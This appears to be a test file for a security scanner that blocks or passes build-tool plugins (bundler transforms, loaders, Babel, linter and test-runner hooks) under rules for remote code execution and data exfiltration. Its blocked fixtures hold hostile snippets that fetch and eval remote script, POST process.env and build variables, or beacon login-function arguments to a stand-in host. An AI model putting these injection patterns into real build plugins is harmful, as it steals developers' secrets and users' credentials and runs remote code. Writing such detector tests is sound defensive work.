import { describeVerdicts } from "../../support/verdicts.ts";

const text = JSON.stringify;
const fetched = `(async () => { const r = await fetch("https://files.example.test/rt.js"); (0, eval)(await r.text()); })();`;
const environment = `require("https").request({ host: "files.example.test", method: "POST", path: "/e" }).end(JSON.stringify(process.env));`;

describeVerdicts("EXE-01", {
  blocks: {
    "a transform that puts code first": `
      module.exports = () => ({
        name: "first",
        transform(code, id) { return /main/.test(id) ? { code: ${text(fetched)} + code, map: null } : null; },
      });`,
    "a transformer of a compiler, with its code in another file": {
      files: {
        "index.js": `
          const ts = require("typescript");
          const { prelude } = require("./prelude");
          module.exports = () => (context) => (file) =>
            context.factory.updateSourceFile(file, [...prelude(), ...file.statements]);`,
        "prelude.js": `
          const ts = require("typescript");
          exports.prelude = () => ts.createSourceFile("p.ts", ${text(fetched)}, 99, false).statements;`,
      },
    },
    "a loader that puts code last": `
      module.exports = function (source) { const done = this.async(); done(null, source + ${text(`\n${fetched}`)}); };`,
    "statements of a second program": `
      const swc = require("@swc/core");
      module.exports = function (source) {
        const done = this.async();
        const program = swc.parseSync(source);
        program.body.unshift(...swc.parseSync(${text(fetched)}).body);
        swc.print(program).then(({ code }) => done(null, code));
      };`,
    "a module that the bundler is told of": `
      module.exports = () => ({
        resolveId: (id) => (id === "virtual:rt" ? id : null),
        load: (id) => (id === "virtual:rt" ? ${text(`${fetched} export default 1;`)} : null),
        transform: (code, id) => (/main/.test(id) ? 'import "virtual:rt";' + code : null),
      });`,
  },
  passes: {
    "a client that reloads": `
      const client = ${text(`const s = new WebSocket("ws://localhost:3000"); s.onmessage = ({ data }) => { if (data === "reload") location.reload(); };`)};
      module.exports = () => ({ transform: (code) => ({ code: client + code }) });`,
    "a module of WebAssembly": `
      module.exports = () => ({
        load(id) {
          return \`export default async (imports) => (await WebAssembly.instantiateStreaming(fetch(\${JSON.stringify(id)}), imports)).instance.exports\`;
        },
        transform: () => null,
      });`,
    "an import that is put off": `
      module.exports = ({ template }) => {
        const later = template.expression("Promise.resolve().then(() => import(SOURCE)).then((m) => m.default)");
        return { visitor: { CallExpression(path) { path.replaceWith(later({ SOURCE: path.node.arguments[0] })); } } };
      };`,
    "the same text where nothing is built": `exports.example = ${text(fetched)};`,
  },
});

describeVerdicts("EXF-01", {
  blocks: {
    "a text in a file of its own, for a bundler": {
      files: {
        "index.js": `
          const fs = require("fs");
          const first = require("./first");
          module.exports = {
            name: "first",
            setup(build) {
              build.onLoad({ filter: /index\\.js$/ }, async ({ path }) => ({ contents: first + (await fs.promises.readFile(path, "utf8")) }));
            },
          };`,
        "first.js": `module.exports = ${text(environment)};`,
      },
    },
    "a transform of a test runner": `
      exports.process = (source) => ({ code: ${text(environment)} + source });
      exports.getCacheKey = () => "1";`,
    "a fix of a linter": `
      module.exports = { rules: { header: { meta: { fixable: "code" }, create: (context) => ({
        Program(node) { context.report({ node, message: "header", fix: (fixer) => fixer.insertTextBefore(node, ${text(environment)}) }); },
      }) } } };`,
    "all variables of a build": `
      const { loadEnv } = require("vite");
      module.exports = () => ({
        config(config, { mode }) {
          fetch("https://files.example.test/v", { method: "POST", body: JSON.stringify(loadEnv(mode, process.cwd(), "")) });
        },
      });`,
  },
  passes: {
    "a banner with a version": `
      const { BannerPlugin } = require("webpack");
      const { version } = require("./package.json");
      module.exports = class { apply(compiler) { new BannerPlugin({ banner: "built with " + version + ", see https://tool.example.test" }).apply(compiler); } };`,
    "variables that are meant for pages": `
      const { loadEnv } = require("vite");
      module.exports = () => ({ config: (config, { mode }) => ({ define: { settings: JSON.stringify(loadEnv(mode, process.cwd())) } }) });`,
  },
});

describeVerdicts("EXF-16", {
  blocks: {
    "what functions are called with": `
      module.exports = ({ types: t, template }) => {
        const probe = template.statement(\`fetch(URL_, { method: "POST", body: JSON.stringify([ARGS]) }).catch(() => {})\`);
        return {
          visitor: {
            Function({ node }) {
              if (!/login/i.test(node.id?.name)) return;
              node.body.body.unshift(probe({ URL_: t.stringLiteral("https://files.example.test/g"), ARGS: node.params }));
            },
          },
        };
      };`,
    "what functions are called with, to a written address": `
      const template = require("@babel/template").default;
      const probe = template("navigator.sendBeacon('https://files.example.test/a', JSON.stringify(PARAMS))");
      module.exports = ({ types: t }) => ({
        visitor: { FunctionDeclaration(path) { path.get("body").unshiftContainer("body", probe({ PARAMS: t.arrayExpression(path.node.params) })); } },
      });`,
  },
  passes: {
    "errors, to the page's own server": `
      module.exports = ({ template }) => {
        const guard = template.statement('try { BODY } catch (ERR) { fetch("/errors", { method: "POST", body: String(ERR) }); throw ERR; }');
        return { visitor: { Function({ node }) { node.body = guard({ BODY: node.body, ERR: "e" }); } } };
      };`,
  },
});
